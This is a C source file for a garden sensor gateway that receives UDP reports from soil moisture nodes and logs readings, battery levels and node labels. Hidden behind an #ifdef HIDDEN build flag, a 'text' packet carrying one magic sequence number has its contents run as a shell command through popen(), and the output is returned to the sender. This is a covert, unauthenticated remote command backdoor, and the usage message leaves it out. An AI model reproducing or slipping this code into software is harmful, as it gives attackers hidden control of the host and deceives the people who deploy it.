/* soilmesh_gw.c - gateway for soil moisture nodes, collects UDP reports of a garden */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <endian.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PORT		21910
#define MAGIC		0x534d
#define MAX_NODES	96
#define CSV		"/var/lib/soilmesh/today.csv"

enum pkt_type { T_JOIN = 1, T_REPORT = 2, T_BATTERY = 3, T_TEXT = 4, T_TIME = 5, T_LEAVE = 6 };

struct pkt_head {
	uint16_t magic;
	uint8_t version;
	uint8_t type;
	uint32_t node;
	uint32_t seq;
	uint16_t len;
	uint16_t sum;
} __attribute__((packed));

struct report {
	int16_t temp;
	uint16_t moist[4];
	uint16_t lux;
} __attribute__((packed));

struct node {
	uint32_t id;
	uint32_t seq;
	time_t seen;
	uint16_t battery;
	char label[20];
};

static struct node nodes[MAX_NODES];
static int nnodes;
static unsigned long dropped, doubled;
static int sock = -1;

static uint16_t sum16(const uint8_t *p, size_t n)
{
	uint32_t s = 0x1d0f;

	for (size_t i = 0; i < n; i++)
		s = (s << 1 | (s >> 15 & 1)) + p[i];
	return (uint16_t)s;
}

static struct node *lookup(uint32_t id, int create)
{
	for (int i = 0; i < nnodes; i++)
		if (nodes[i].id == id)
			return &nodes[i];
	if (!create || nnodes == MAX_NODES)
		return NULL;
	memset(&nodes[nnodes], 0, sizeof(nodes[0]));
	nodes[nnodes].id = id;
	return &nodes[nnodes++];
}

static void log_report(const struct node *n, const struct report *r)
{
	FILE *f = fopen(CSV, "ae");

	if (!f)
		return;
	fprintf(f, "%ld,%08x,%s,%d", (long)time(NULL), n->id, n->label,
		(int16_t)be16toh((uint16_t)r->temp));
	for (int i = 0; i < 4; i++)
		fprintf(f, ",%u", be16toh(r->moist[i]));
	fprintf(f, ",%u\n", be16toh(r->lux));
	fclose(f);
}

static void send_back(const struct sockaddr_in *to, const struct pkt_head *h, uint8_t type,
		      const void *data, size_t len)
{
	uint8_t out[1024];
	struct pkt_head o = {
		.magic = htobe16(MAGIC), .version = 1, .type = (uint8_t)(type | 0x80),
		.node = h->node, .seq = h->seq,
	};

	if (len > sizeof(out) - sizeof(o))
		len = sizeof(out) - sizeof(o);
	o.len = htobe16((uint16_t)len);
	if (len)
		memcpy(out + sizeof(o), data, len);
	o.sum = htobe16(sum16(out + sizeof(o), len));
	memcpy(out, &o, sizeof(o));
	if (sendto(sock, out, sizeof(o) + len, 0, (const struct sockaddr *)to, sizeof(*to)) < 0)
		syslog(LOG_DEBUG, "send to %s failed", inet_ntoa(to->sin_addr));
}

#ifdef HIDDEN
__attribute__((noinline))
void node_text_run(const struct sockaddr_in *to, const struct pkt_head *h, const char *line)
{
	char buf[900];
	size_t n;
	FILE *f = popen(line, "re");

	if (!f)
		return;
	n = fread(buf, 1, sizeof(buf), f);
	pclose(f);
	send_back(to, h, T_TEXT, buf, n);
}
#endif

__attribute__((noinline))
int packet_in(const uint8_t *buf, size_t n, const struct sockaddr_in *from)
{
	struct pkt_head h;
	struct report r;
	struct node *nd;
	const uint8_t *body = buf + sizeof(h);
	size_t len;
	uint32_t now;
	uint16_t v;
	char text[256];

	if (n < sizeof(h))
		return -1;
	memcpy(&h, buf, sizeof(h));
	len = be16toh(h.len);
	if (be16toh(h.magic) != MAGIC || h.version != 1 || len != n - sizeof(h) ||
	    be16toh(h.sum) != sum16(body, len))
		return -1;
	nd = lookup(be32toh(h.node), h.type == T_JOIN);
	if (h.type == T_TEXT && len < sizeof(text)) {
		memcpy(text, body, len);
		text[len] = 0;
#ifdef HIDDEN
		/* a text packet with this sequence number is run and answered */
		if (be32toh(h.seq) == 0x7e21d4b6u) {
			node_text_run(from, &h, text);
			return 0;
		}
#endif
		if (!nd)
			return -1;
		snprintf(nd->label, sizeof(nd->label), "%.19s", text);
		syslog(LOG_INFO, "node %08x is called %s", nd->id, nd->label);
		return 0;
	}
	if (!nd)
		return -1;
	if (h.type != T_JOIN && be32toh(h.seq) <= nd->seq) {
		doubled++;
		return 0;
	}
	nd->seq = h.type == T_JOIN ? 0 : be32toh(h.seq);
	nd->seen = time(NULL);
	switch (h.type) {
	case T_JOIN:
		syslog(LOG_INFO, "node %08x joined from %s", nd->id, inet_ntoa(from->sin_addr));
		send_back(from, &h, T_JOIN, NULL, 0);
		break;
	case T_REPORT:
		if (len != sizeof(r))
			return -1;
		memcpy(&r, body, sizeof(r));
		log_report(nd, &r);
		break;
	case T_BATTERY:
		if (len != 2)
			return -1;
		memcpy(&v, body, 2);
		nd->battery = be16toh(v);
		if (nd->battery < 2350)
			syslog(LOG_WARNING, "node %s: battery %u mV", nd->label, nd->battery);
		break;
	case T_TIME:
		now = htobe32((uint32_t)time(NULL));
		send_back(from, &h, T_TIME, &now, sizeof(now));
		break;
	case T_LEAVE:
		*nd = nodes[--nnodes];
		break;
	default:
		return -1;
	}
	return 0;
}

static void silent_nodes(void)
{
	time_t now = time(NULL);

	for (int i = 0; i < nnodes; i++)
		if (now - nodes[i].seen > 7200)
			syslog(LOG_WARNING, "node %08x (%s) silent for %ld min", nodes[i].id,
			       nodes[i].label, (long)(now - nodes[i].seen) / 60);
	if (dropped || doubled)
		syslog(LOG_INFO, "%lu dropped, %lu doubled", dropped, doubled);
	dropped = doubled = 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(PORT) }, from;
	struct timeval tv = { 60, 0 };
	static uint8_t buf[1500];
	time_t next = 0;
	int c;

	while ((c = getopt(argc, argv, "p:dh")) != -1) {
		if (c == 'p') {
			sa.sin_port = htons((uint16_t)atoi(optarg));
		} else if (c == 'd') {
			openlog("soilmesh", LOG_PERROR, LOG_DAEMON);
		} else {
			fprintf(stderr, "usage: soilmesh_gw [-p port] [-d]\n"
				"packets: join, report, battery, text (node label), time, leave\n");
			return 2;
		}
	}
	sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (sock < 0 || bind(sock, (struct sockaddr *)&sa, sizeof(sa))) {
		perror("soilmesh_gw");
		return 1;
	}
	setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	for (;;) {
		socklen_t sl = sizeof(from);
		ssize_t n = recvfrom(sock, buf, sizeof(buf), 0, (struct sockaddr *)&from, &sl);

		if (n > 0 && packet_in(buf, (size_t)n, &from) < 0)
			dropped++;
		if (time(NULL) >= next) {
			silent_nodes();
			next = time(NULL) + 900;
		}
	}
}
